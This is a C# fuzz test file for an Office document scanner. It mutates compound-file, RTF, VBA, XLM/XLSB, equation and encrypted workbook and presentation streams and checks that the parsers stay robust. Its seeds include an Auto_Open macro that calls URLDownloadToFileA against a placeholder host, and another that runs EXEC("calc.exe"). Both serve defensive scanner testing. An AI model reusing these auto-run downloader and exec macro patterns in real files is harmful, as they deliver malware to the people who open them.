using System.Diagnostics;
using System.Globalization;
using System.Runtime.CompilerServices;
using System.IO.Compression;
using System.Text;
using Crible.Scanners.Office;
using Crible.Scanners.Office.Encryption;
using Crible.Scanners.Office.Equation;
using Crible.Scanners.Office.Links;
using Crible.Scanners.Office.Ole;
using Crible.Scanners.Office.PowerPoint;
using Crible.Scanners.Office.Rtf;
using Crible.Scanners.Office.Vba;
using Crible.Scanners.Office.Xlm;
using Xunit.Abstractions;

namespace Crible.Tests.Scanners.Office;

/// <summary>The compound file, RTF, macro, XLM, field and decryption parsers on thousands of mutations of real streams
/// (fixed seeds): none may throw or run away. CRIBLE_FUZZ_CASES raises the count (bench/office.sh);
/// CRIBLE_FUZZ_SECONDS instead runs every loop for that long (bench/fuzz-office.sh), and each test says how many
/// cases it ran.</summary>
public sealed class OfficeParserFuzzTests(ITestOutputHelper output)
{
    private const int MaxBytes = 1 << 20;

    private static int Cases => int.TryParse(Environment.GetEnvironmentVariable("CRIBLE_FUZZ_CASES"), NumberStyles.None, CultureInfo.InvariantCulture, out var cases) ? cases : 3000;

    private static TimeSpan? Duration => int.TryParse(Environment.GetEnvironmentVariable("CRIBLE_FUZZ_SECONDS"), NumberStyles.None, CultureInfo.InvariantCulture, out var seconds) && seconds > 0
        ? TimeSpan.FromSeconds(seconds)
        : null;

    /// <summary>The case numbers of one fuzz loop: <paramref name="count"/> of them, or as many as
    /// CRIBLE_FUZZ_SECONDS allows (at least <paramref name="count"/>). Counted for the test's output.</summary>
    private IEnumerable<int> Rounds(int count, [CallerMemberName] string test = "")
    {
        var clock = Stopwatch.StartNew();
        var i = 0;
        for (; i < count || (Duration is { } duration && clock.Elapsed < duration); i++)
        {
            yield return i;
        }

        output.WriteLine($"{test}: {i} cases in {clock.Elapsed.TotalSeconds:F0} s");
    }

    [Fact]
    public void The_compound_file_and_RTF_object_readers_survive_mutated_files()
    {
        byte[][] files = [.. new[] { TestPaths.Corpus("strelka-fixtures", "test.doc"), TestPaths.Corpus("strelka-fixtures", "test.xls"), TestPaths.ClamAvTestFile("clam.ppt") }.Select(File.ReadAllBytes)];
        var rtf = File.ReadAllBytes(TestPaths.ClamAvTestFile("clam.exe.rtf"));
        var random = new Random(1978);
        foreach (var i in Rounds(Cases / 10))
        {
            OfficeMutationTests.ReadEverything(Mutate(files[i % files.Length], random));
            var problems = new List<string>();
            var objects = RtfObjectReader.Read(Mutate(rtf, random), problems);
            Assert.All(objects, o => Assert.InRange(o.Data.Length, 0, rtf.Length));
        }
    }

    [Fact]
    public void The_VBA_decompressor_and_dir_parser_survive_mutated_streams()
    {
        var streams = Streams("_VBA_PROJECT_CUR/VBA/dir", "_VBA_PROJECT_CUR/VBA/Module1");
        var random = new Random(4242);
        foreach (var i in Rounds(Cases))
        {
            var mutated = Mutate(streams[i % streams.Count], random);
            var result = VbaCompression.Decompress(mutated, MaxBytes);
            Assert.True(result.Data.Length <= MaxBytes);
            VbaDirectory.Parse(result.Data);
            VbaDirectory.Parse(mutated);
        }
    }

    [Fact]
    public void The_BIFF_reader_and_the_formula_walker_survive_mutated_workbooks()
    {
        var workbook = Streams("Workbook")[0];
        var random = new Random(1717);
        foreach (var i in Rounds(Cases / 10))
        {
            var info = BiffWorkbook.Read(Mutate(workbook, random));
            Assert.NotNull(info.Sheets);
        }

        foreach (var i in Rounds(Cases))
        {
            var tokens = new byte[random.Next(0, 64)];
            random.NextBytes(tokens);
            XlmFormulaTokens.Read(tokens);
        }
    }

    [Fact]
    public async Task The_XLSB_record_and_BIFF12_formula_readers_survive_mutated_parts()
    {
        byte[] call = [.. Xlm.XlsbTestFiles.Str("urlmon"), .. Xlm.XlsbTestFiles.Str("URLDownloadToFileA"), .. Xlm.XlsbTestFiles.Integer(104), .. Xlm.XlsbTestFiles.Func(111),
            .. Xlm.XlsbTestFiles.Str("ttp://x.example.org/p"), .. Xlm.XlsbTestFiles.Concat, 0x19, 0x04, 2, 0, 0, 0, 0, 0, 0, .. Xlm.XlsbTestFiles.FuncVar(3, 150)];
        var workbook = Xlm.XlsbTestFiles.Workbook(2, "_xlnm.Auto_Open", "Payload");
        var sheet = Xlm.XlsbTestFiles.MacroSheet(Xlm.XlsbTestFiles.StringFormula(0, call), Xlm.XlsbTestFiles.NumberFormula(1, [0x23, 2, 0, 0, 0, .. call, .. Xlm.XlsbTestFiles.FuncVar(2, 255)]), Xlm.XlsbTestFiles.SharedFormula(4, call));
        var random = new Random(12012);
        foreach (var i in Rounds(Cases))
        {
            var info = XlsbWorkbook.Read(Mutate(workbook, random));
            Assert.True(info.Sheets.Count <= XlsbWorkbook.MaxSheets);
            var cells = XlsbMacroSheet.Read(Mutate(sheet, random), info.Names, 100, []);
            Assert.True(cells.Count <= 100);
            Assert.All(cells, c => Assert.True((c.Formula.Text?.Length ?? 0) <= 16 * 1024));
            var tokens = new byte[random.Next(0, 96)];
            random.NextBytes(tokens);
            XlsbFormula.Read(i % 2 == 0 ? tokens : Mutate(call, random), ["Payload"]);
        }

        foreach (var i in Rounds(Cases / 30))
        {
            var package = Xlm.XlsbTestFiles.Package(Mutate(workbook, random), Mutate(sheet, random));
            var report = await TestEngine.Default.AnalyseAsync(package, "book.xlsb");
            Assert.DoesNotContain(report.Nodes.SelectMany(n => n.Incomplete), r => r.Contains(" failed:", StringComparison.Ordinal));
        }
    }

    [Fact]
    public void The_macro_classifier_and_field_readers_survive_random_text()
    {
        var source = File.ReadAllText(TestPaths.Corpus("strelka-fixtures", "test.vba"));
        var rtf = File.ReadAllText(TestPaths.ClamAvTestFile("clam.exe.rtf"), Encoding.Latin1);
        var random = new Random(99);
        const string Alphabet = "\"&+()_ \r\nChrW$StrReverse0123456789ABCDEFabcdef=/\\{}'\u0013\u0014\u0015";
        foreach (var i in Rounds(Cases / 10))
        {
            var text = MutateText(i % 2 == 0 ? source : rtf[..Math.Min(rtf.Length, 4000)], random, Alphabet);
            VbaMacroAnalysis.Analyse([new VbaSource("Module1", text)]);
            LegacyFieldText.RtfInstructions(text);
            DdeFields.Find(LegacyFieldText.WordInstructions(Encoding.Latin1.GetBytes(text)));
        }
    }

    [Fact]
    public void The_equation_reader_and_the_package_readers_survive_mutated_objects()
    {
        byte[] equation = [0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4, 40, 0, 0, 0, .. new byte[16], 3, 1, 1, 3, 10, 10, 1, 0x82, 130, 126, 1, 0x41, 0, 0x86, 128, 128, 1, 0, 2, 0, 3,
            7, 2, 0, 1, 0, 0, 2, 0, 5, 0, 0, 0, 2, 2, 0, 0, 9, 101, 12, 0, 8, 0x5A, 0x5A, .. "Times New Roman"u8, 0, 0, 0];
        var package = File.ReadAllBytes(TestPaths.ClamAvTestFile("clam.exe.rtf"));
        var random = new Random(11882);
        foreach (var i in Rounds(Cases))
        {
            var mutated = Mutate(equation, random);
            if (MtefReader.ReadStream(mutated) is { } records)
            {
                Assert.All(records.Fonts, f => Assert.InRange(f.NameLength, 0, mutated.Length));
            }

            var native = Mutate(package[..Math.Min(package.Length, 2048)], random);
            Ole1Object.TryParse(native);
            if (OlePackage.TryParse(native) is { } parsed)
            {
                RunnablePackagedFile.Describe(parsed);
            }
        }
    }

    [Fact]
    public void The_encrypted_workbook_reader_survives_mutated_FILEPASS_records_and_workbooks()
    {
        var plain = File.ReadAllBytes(TestPaths.Corpus("strelka-fixtures", "test.xls"));
        var workbooks = new[] { Encryption.ExcelTestScheme.Rc4, Encryption.ExcelTestScheme.CryptoApi128 }
            .Select(s => Encryption.ExcelTestEncryptor.Workbook(Encryption.ExcelTestEncryptor.Encrypt(plain, EncryptedDocumentEmitter.DefaultPassword, s)))
            .ToArray();
        var random = new Random(2010);
        var (opened, decrypted) = (0, 0);
        foreach (var i in Rounds(Cases / 10))
        {
            var workbook = workbooks[i % workbooks.Length];
            // Mostly the first records (BOF, FILEPASS, BOUNDSHEETs), where the parsing is; sometimes anywhere.
            byte[] mutated = i % 4 == 0 ? Mutate(workbook, random) : [.. Mutate(workbook[..400], random), .. workbook[400..]];
            var builder = new CompoundFileBuilder();
            builder.AddStream("Workbook", mutated);
            using var file = CompoundFile.Open(builder.ToArray());
            if (OpenEncrypted(file) is not { } document)
            {
                continue;
            }

            opened++;
            if (document.TryPassword(EncryptedDocumentEmitter.DefaultPassword, CancellationToken.None))
            {
                var result = document.Decrypt(MaxBytes, CancellationToken.None);
                Assert.True(result.Content.Length <= 2 * MaxBytes);
                decrypted++;
            }
        }

        Assert.True(opened > 0 && decrypted > 0, $"{opened} opened, {decrypted} decrypted: the mutations never reach the decryption");
    }

    [Fact]
    public async Task The_single_file_XML_ActiveMime_and_OOXML_macro_sheet_readers_survive_mutated_documents()
    {
        var project = Convert.ToBase64String(File.ReadAllBytes(TestPaths.Corpus("strelka-fixtures", "test.xls")));
        var flat = Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>{project}</pkg:binaryData></pkg:part></pkg:package>");
        var header = new byte[0x32];
        "ActiveMime"u8.CopyTo(header);
        header[0x1E] = 0x32 - 46;
        using var buffer = new MemoryStream();
        buffer.Write(header);
        using (var zlib = new ZLibStream(buffer, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(File.ReadAllBytes(TestPaths.Corpus("strelka-fixtures", "test.doc")));
        }

        var activeMime = buffer.ToArray();
        var workbook = Xlm.OoxmlXlmScannerTests.Workbook("veryHidden", "_xlnm.Auto_Open", "<c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c>");
        (byte[] Seed, string Name)[] seeds = [(flat, "flat.xml"), (activeMime, "editdata.mso"), (workbook, "book.xlsm")];
        var random = new Random(2003);
        foreach (var i in Rounds(Cases / 30))
        {
            var (seed, name) = seeds[i % seeds.Length];
            var report = await TestEngine.Default.AnalyseAsync(Mutate(seed, random), name);
            Assert.NotEmpty(report.Nodes);
        }
    }

    [Fact]
    public async Task The_PowerPoint_decryption_survives_mutated_presentations()
    {
        var encrypted = Encryption.PowerPointTestEncryptor.Encrypt(File.ReadAllBytes(TestPaths.ClamAvTestFile("clam.ppt")), EncryptedDocumentEmitter.DefaultPassword);
        string[] names = ["Current User", "PowerPoint Document", "Pictures"];
        byte[][] streams;
        using (var original = CompoundFile.Open(encrypted))
        {
            streams = [.. names.Select(n => original.ReadStream(original.Find(n)!, MaxBytes, out _))];
        }

        var random = new Random(2307);
        foreach (var i in Rounds(Cases))
        {
            // Half the document mutations hit its clear tail: the encryption session, the persist directory, the edit.
            var target = i % 4 == 3 ? 1 : i % 3;
            var mutated = target != 1 || i % 2 == 0 ? Mutate(streams[target], random) : [.. streams[1][..^300], .. Mutate(streams[1][^300..], random)];
            var builder = new CompoundFileBuilder();
            for (var s = 0; s < names.Length; s++)
            {
                builder.AddStream(names[s], s == target ? mutated : streams[s]);
            }

            using var file = CompoundFile.Open(builder.ToArray());
            if (OpenEncrypted(file) is not { } document)
            {
                continue;
            }

            if (document.TryPassword(EncryptedDocumentEmitter.DefaultPassword, CancellationToken.None) && document.Decrypt(MaxBytes, CancellationToken.None) is { Content.Length: > 0 } decrypted)
            {
                Assert.InRange(decrypted.Content.Length, 1, 2 * encrypted.Length);
                using var result = CompoundFile.Open(decrypted.Content);
                PowerPointRecordReader.Read(result.ReadStream(result.Find("PowerPoint Document")!, MaxBytes, out _), []);
            }
        }

        foreach (var i in Rounds(Cases / 30))
        {
            var report = await TestEngine.Default.AnalyseAsync(Mutate(encrypted, random), "deck.ppt");
            Assert.NotEmpty(report.Nodes);
        }
    }

    /// <summary>The encryption a mutated file still shows, or null when the reader refuses it (the expected answer
    /// to damage).</summary>
    private static IEncryptedDocument? OpenEncrypted(CompoundFile file)
    {
        try
        {
            return EncryptedDocumentReader.Open(file, MaxBytes);
        }
        catch (FormatException)
        {
            return null;
        }
    }

    private static List<byte[]> Streams(params string[] paths)
    {
        using var file = CompoundFile.Open(File.ReadAllBytes(TestPaths.Corpus("strelka-fixtures", "test.xls")));
        return [.. paths.Select(p => file.ReadStream(file.Find(p.Split('/'))!, MaxBytes, out _))];
    }

    private static byte[] Mutate(byte[] original, Random random)
    {
        var bytes = original.ToArray();
        for (var flips = random.Next(1, 16); flips > 0; flips--)
        {
            bytes[random.Next(bytes.Length)] = random.Next(4) == 0 ? (byte)0xFF : (byte)random.Next(256);
        }

        return bytes[..random.Next(1, bytes.Length + 1)];
    }

    private static string MutateText(string original, Random random, string alphabet)
    {
        var characters = original.ToCharArray();
        for (var flips = random.Next(1, 40); flips > 0; flips--)
        {
            characters[random.Next(characters.Length)] = alphabet[random.Next(alphabet.Length)];
        }

        return new string(characters);
    }
}
